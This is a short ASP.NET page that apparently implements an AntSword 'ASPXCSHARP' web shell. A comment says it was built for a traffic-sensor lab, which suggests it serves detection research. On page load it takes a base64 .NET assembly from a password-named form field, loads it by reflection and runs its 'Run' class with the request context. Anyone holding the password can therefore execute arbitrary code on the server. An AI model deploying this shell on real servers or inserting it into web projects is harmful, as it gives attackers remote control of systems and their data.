<%@ Page Language="C#" %><script runat="server">
// TrafficSensor lab: an AntSword ASPXCSHARP shell written for the lab. Mono has no JScript.NET, so
// the JScript eval shell cannot run here; AntSword's C# type sends, in the password parameter, a
// base64 .NET assembly whose class Run is handed the context (arguments travel as further fields).
protected void Page_Load(object s, EventArgs e)
{
    var code = Request.Form["@@PASS@@"];
    if (string.IsNullOrEmpty(code)) return;
    System.Reflection.Assembly.Load(Convert.FromBase64String(code)).CreateInstance("Run").Equals(Context);
}
</script>